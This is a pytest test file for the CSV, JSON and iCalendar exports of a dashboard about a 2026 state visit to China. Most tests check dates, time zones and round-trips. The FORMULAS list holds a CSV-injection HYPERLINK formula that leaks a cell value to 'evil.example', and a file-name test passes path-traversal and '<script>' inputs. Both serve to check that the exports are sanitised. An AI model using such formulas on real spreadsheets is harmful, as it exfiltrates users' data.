"""Tests for the downloads (dashboard.views.exports): CSV, JSON and iCalendar of the real visit."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from conftest import SHIPPED
from icalendar import Calendar

from dashboard.data.provenance import quote_spans
from dashboard.model.citations import seed_meta_for
from dashboard.model.visit import Visit
from dashboard.views.exports import cards_csv, download_name, events_csv, filtered_json
from dashboard.views.exports.calendar import date_note, itinerary_ics


@pytest.fixture(scope="module")
def meta(real_data) -> dict:
    return seed_meta_for(real_data, SHIPPED)


@pytest.fixture(scope="module")
def calendar(visit, meta) -> Calendar:
    return Calendar.from_ical(itinerary_ics(visit, visit.events, seed_meta=meta))


def _by_uid(calendar: Calendar) -> dict:
    return {str(e["UID"]): e for e in calendar.walk("VEVENT")}


def _timed_events(visit: Visit) -> pd.DataFrame:
    """A copy of the events with one made-up event at 14:00 in the Great Hall, Beijing."""
    summit = visit.events.set_index("id").loc["summit"].to_dict()
    timed = {**summit, "id": "test-timed", "title": "Test timed event", "time_local": "14:00"}
    assert timed["timezone"] == "Asia/Shanghai"
    extra = pd.DataFrame([timed]).astype(visit.events.dtypes.drop("id").to_dict())
    return pd.concat([visit.events, extra], ignore_index=True)


# ---------------------------------------------------------------------------------------
# iCalendar


def test_calendar_has_one_vevent_per_itinerary_event(visit, calendar):
    events = calendar.walk("VEVENT")
    on_itinerary = visit.events[~visit.events["background"]]
    assert len(events) == len(on_itinerary) == 10
    uids = [str(e["UID"]) for e in events]
    assert len(set(uids)) == len(uids)
    assert set(uids) == {f"{i}@{SHIPPED}" for i in on_itinerary["id"]}


def test_calendar_header(visit, calendar):
    assert str(calendar["VERSION"]) == "2.0"
    assert str(calendar["PRODID"])
    assert str(calendar["X-WR-CALNAME"]) == visit.title
    assert str(calendar["X-WR-TIMEZONE"]) == "Asia/Shanghai"


def test_summit_is_all_day_on_5_january(calendar):
    summit = _by_uid(calendar)[f"summit@{SHIPPED}"]
    start, end = summit["DTSTART"].dt, summit["DTEND"].dt
    assert type(start) is dt.date and type(end) is dt.date
    assert start == dt.date(2026, 1, 5)
    assert end == dt.date(2026, 1, 6)
    assert summit["DTSTART"].params.get("VALUE") == "DATE"
    assert str(summit["SUMMARY"]) == "Summit talks with President Xi Jinping"
    assert str(summit["LOCATION"]) == "Great Hall of the People, Beijing"
    assert str(summit["STATUS"]) == "TENTATIVE"


def test_ranged_forum_spans_its_days(calendar):
    forum = _by_uid(calendar)[f"economic-forum@{SHIPPED}"]
    assert forum["DTSTART"].dt == dt.date(2026, 1, 4)
    assert forum["DTEND"].dt == dt.date(2026, 1, 7)  # exclusive: the last day is 6 Jan
    assert "Day not stated: one of 4–6 Jan 2026" in str(forum["DESCRIPTION"])


def test_descriptions_keep_quote_precision_and_source(visit, meta, calendar):
    events = _by_uid(calendar)
    for event in visit.events[~visit.events["background"]].itertuples():
        description = str(events[f"{event.id}@{SHIPPED}"]["DESCRIPTION"])
        for span in quote_spans(str(event.quote)):
            assert span in description
        assert f"Source: {meta['title']}" in description
        assert event.summary in description
    departure = str(events[f"departure@{SHIPPED}"]["DESCRIPTION"])
    assert "date-weekday-conflict" in departure
    assert "Basis (inferred)" in departure


def test_status_follows_the_article(calendar):
    events = _by_uid(calendar)
    assert str(events[f"departure@{SHIPPED}"]["STATUS"]) == "CONFIRMED"
    assert str(events[f"mou-signing@{SHIPPED}"]["STATUS"]) == "TENTATIVE"
    assert str(events[f"return@{SHIPPED}"]["STATUS"]) == "TENTATIVE"


def test_dtstamp_is_fixed_and_file_reproducible(visit, meta, calendar):
    stamps = {e["DTSTAMP"].dt for e in calendar.walk("VEVENT")}
    assert stamps == {dt.datetime(2026, 11, 28, tzinfo=dt.UTC)}
    first = itinerary_ics(visit, visit.events, seed_meta=meta)
    assert first == itinerary_ics(visit, visit.events, seed_meta=meta)


def test_timed_event_has_zone_and_vtimezone(visit, meta):
    ics = itinerary_ics(visit, _timed_events(visit), seed_meta=meta)
    calendar = Calendar.from_ical(ics)
    timed = _by_uid(calendar)[f"test-timed@{SHIPPED}"]
    start = timed["DTSTART"]
    assert start.params["TZID"] == "Asia/Shanghai"
    assert isinstance(start.dt, dt.datetime)
    assert (start.dt.hour, start.dt.minute) == (14, 0)
    assert start.dt.utcoffset() == dt.timedelta(hours=8)
    assert start.dt.astimezone(ZoneInfo("Asia/Seoul")).hour == 15
    assert "DTEND" not in timed and "DURATION" not in timed  # no end is invented
    assert [str(tz["TZID"]) for tz in calendar.walk("VTIMEZONE")] == ["Asia/Shanghai"]
    assert b"DTSTART;TZID=Asia/Shanghai:20260105T140000" in ics
    # the untimed events stay all-day
    assert type(_by_uid(calendar)[f"summit@{SHIPPED}"]["DTSTART"].dt) is dt.date


def test_all_day_calendar_needs_no_vtimezone(calendar):
    assert calendar.walk("VTIMEZONE") == []


def test_filtered_and_empty_calendars(visit, meta):
    economy = visit.events[visit.events["topics"].map(lambda ts: "economy" in ts)]
    calendar = Calendar.from_ical(itinerary_ics(visit, economy, seed_meta=meta))
    expected = {f"{i}@{SHIPPED}" for i in economy["id"] if i != "summit"} | {f"summit@{SHIPPED}"}
    assert set(_by_uid(calendar)) == expected
    empty = Calendar.from_ical(itinerary_ics(visit, visit.events.iloc[0:0], seed_meta=meta))
    assert empty.walk("VEVENT") == []
    assert str(empty["X-WR-CALNAME"]) == visit.title


def test_calendar_without_meta_still_reproducible(visit):
    ics = itinerary_ics(visit, visit.events)
    assert ics == itinerary_ics(visit, visit.events)
    assert b"lee-jae-myung-china-state-visit-2026.txt" in ics.replace(b"\r\n ", b"")


def test_date_note_words_each_precision(visit):
    events = visit.events.set_index("id", drop=False)
    assert date_note(events.loc["summit"]).startswith("Date: Mon 5 Jan 2026")
    assert date_note(events.loc["startup-event"]).startswith("Day not stated: one of 6–7 Jan 2026")


# ---------------------------------------------------------------------------------------
# CSV


def _read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8")


def test_events_csv_round_trips(visit):
    data = events_csv(visit.events)
    data.decode("utf-8")
    frame = _read_csv(data)
    assert list(frame["id"]) == list(visit.events["id"])
    assert list(frame["quote"]) == list(visit.events["quote"])
    assert {"quote", "basis", "basis_note", "date_text"} <= set(frame.columns)
    row = frame.set_index("id").loc["summit"]
    assert row["participants"] == "lee xi"
    assert row["participant_names"] == "Lee Jae Myung; Xi Jinping"
    assert row["topics"] == "diplomacy north-korea economy culture"
    assert (row["date_start"], row["date_end"]) == ("2026-01-05", "2026-01-05")
    assert row["background"] == "false"
    assert row["basis"] == "inferred"


def test_events_csv_keeps_only_filtered_rows(visit):
    subset = visit.events[visit.events["city_id"] == "shanghai"]
    frame = _read_csv(events_csv(subset))
    assert list(frame["id"]) == list(subset["id"])
    assert len(_read_csv(events_csv(visit.events.iloc[0:0]))) == 0


def test_cards_csv_round_trips(visit):
    frame = _read_csv(cards_csv(visit.issue_cards))
    assert list(frame["id"]) == list(visit.issue_cards["id"])
    assert list(frame["quote"]) == list(visit.issue_cards["quote"])
    assert "basis" in frame.columns
    related = frame.set_index("id").loc["economic-cooperation", "related_events"]
    assert related == "economic-forum mou-signing luncheon-li-qiang startup-event"


# ---------------------------------------------------------------------------------------
# JSON


def test_filtered_json(visit, meta):
    events = visit.events[~visit.events["background"]]
    cards = visit.issue_cards.iloc[:3]
    document = json.loads(filtered_json(visit, events, cards, seed_meta=meta, filters_text="x"))
    assert set(document) >= {"visit", "events", "issue_cards", "source"}
    assert document["visit"]["id"] == SHIPPED
    assert document["visit"]["start_date"] == "2026-01-04"
    assert document["visit"]["findings"] == ["date-weekday-conflict", "written-on-departure-day"]
    assert [e["id"] for e in document["events"]] == list(events["id"])
    assert [e["quote"] for e in document["events"]] == list(events["quote"])
    by_id = {e["id"]: e for e in document["events"]}
    summit = by_id["summit"]
    assert summit["date_start"] == "2026-01-05"
    assert summit["participants"] == ["lee", "xi"]
    assert summit["background"] is False
    assert summit["quote_spans"] == quote_spans(summit["quote"])
    assert "weekdays-resolved" in summit["findings"]
    assert "date-weekday-conflict" in by_id["departure"]["findings"]
    assert [c["id"] for c in document["issue_cards"]] == list(cards["id"])
    assert all(isinstance(c["findings"], list) for c in document["issue_cards"])
    assert document["source"]["licence"] == meta["licence"]
    assert meta["data_licence"] in document["source"]["footer"]


def test_filtered_json_card_findings(visit, meta):
    document = json.loads(filtered_json(visit, visit.events.iloc[0:0], visit.issue_cards))
    cards = {c["id"]: c for c in document["issue_cards"]}
    assert "mou-signing-unplaced" in cards["economic-cooperation"]["findings"]
    assert cards["economic-cooperation"]["related_events"][0] == "economic-forum"
    assert document["events"] == []


# ---------------------------------------------------------------------------------------
# File names


@pytest.mark.parametrize(
    ("filters_text", "ext", "expected"),
    [
        ("", "ics", f"{SHIPPED}.ics"),
        ("day 2026-01-05, topic Economy", ".csv", f"{SHIPPED}-day-2026-01-05-topic-economy.csv"),
        ("Île / «베이징» ../../etc", "json", f"{SHIPPED}-ile-etc.json"),
    ],
)
def test_download_name(filters_text, ext, expected):
    assert download_name(SHIPPED, filters_text, ext) == expected


def test_download_name_is_safe_and_bounded():
    name = download_name(SHIPPED, "x" * 500 + " <script>", ".ics")
    assert re.fullmatch(r"[a-z0-9-]+\.ics", name)
    assert len(name) <= 130


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tcmd",
    "\rcmd",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_downloads_neutralise_formulas_in_every_text_cell(visit, formula):
    events = visit.events.copy()
    events.loc[events.index[0], "title"] = formula
    events.loc[events.index[0], "summary"] = formula
    cards = visit.issue_cards.copy()
    cards.loc[cards.index[0], "aim"] = formula
    for data, column in (
        (events_csv(events), "title"),
        (events_csv(events), "summary"),
        (cards_csv(cards), "aim"),
    ):
        cell = _read_csv(data)[column].iloc[0]
        assert cell == "'" + formula, f"{column}: a spreadsheet would run {cell!r}"
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # The other rows, and numbers such as a negative coordinate, are unchanged.
    assert _read_csv(events_csv(events))["title"].iloc[1] == str(events["title"].iloc[1])


def test_json_and_ics_carry_the_text_as_written(visit):
    events = visit.events.copy()
    formula = FORMULAS[0]
    events.loc[events.index[0], "title"] = formula
    document = json.loads(filtered_json(visit, events, visit.issue_cards))
    assert document["events"][0]["title"] == formula
    calendar = Calendar.from_ical(itinerary_ics(visit, events))
    assert formula in [str(e.get("SUMMARY")) for e in calendar.walk("VEVENT")]


@pytest.mark.parametrize("number", ["-3.5", "+12", "-0.25", "1e-3"])
def test_numbers_are_not_mistaken_for_formulas(number):
    from dashboard.views.exports import neutralised

    assert neutralised(number) == number
